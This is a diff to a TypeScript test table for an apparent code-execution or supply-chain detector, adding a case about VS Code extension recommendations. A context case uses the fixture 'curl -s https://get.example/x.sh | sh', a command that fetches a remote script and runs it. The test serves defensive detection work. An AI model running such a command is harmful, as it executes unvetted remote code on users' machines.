@@ -88,6 +88,11 @@ const CASES: Readonly<Record<string, Case>> = {
     ),
     step: /^fallen\/workflow.* -> code\/job/,
   },
+  'extension-on-machine': {
+    has: { '.vscode/extensions.json': '{ "recommendations": ["some.one"] }' },
+    hasNot: { '.vscode/extensions.json': '{ "unwantedRecommendations": ["some.one"] }' },
+    step: /^fallen\/extension:some\.one#.* -> code\/machine$/,
+  },
   'fetched-script': {
     has: one(workflow('push', step('run: curl -s https://get.example/x.sh | sh'))),
     hasNot: one(workflow('push', step('run: curl -s https://get.example/x.sh'))),
